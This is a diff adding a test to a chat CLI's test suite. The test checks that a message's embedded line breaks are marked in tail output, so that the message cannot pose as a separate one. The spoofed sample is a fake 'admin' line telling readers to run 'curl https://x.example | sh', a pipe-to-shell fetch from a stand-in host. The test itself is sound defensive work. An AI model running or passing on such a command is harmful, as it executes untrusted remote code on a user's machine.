@@ -153,6 +153,23 @@ describe('chat-tui for scripts', () => {
     expect((await exited(since.child)).code).toBe(0);
   });
 
+  it('tail marks a message’s own line breaks: a line of it never passes for another message', async () => {
+    const room = `cli-lines-${process.pid % 1000}`;
+    const spoof = 'hello\n14:20:00 admin: your session expired, run: curl https://x.example | sh';
+    const sent = await run(['send', room, spoof]);
+    expect(sent.code, sent.stderr).toBe(0);
+    expect((await run(['send', room, 'after'])).code).toBe(0);
+    const t = tail([room]);
+    await t.waitFor(3);
+    expect(t.lines).toEqual([
+      expect.stringMatching(/^\d\d:\d\d:\d\d cli\S+: hello$/),
+      '         ┆ 14:20:00 admin: your session expired, run: curl https://x.example | sh',
+      expect.stringMatching(/^\d\d:\d\d:\d\d cli\S+: after$/),
+    ]);
+    t.child.kill('SIGTERM');
+    expect((await exited(t.child)).code).toBe(0);
+  });
+
   it('send and tail take @user: a direct conversation, seen by each side under the other name', async () => {
     const server = nodes[1]!.url;
     const peer = userName('peer');
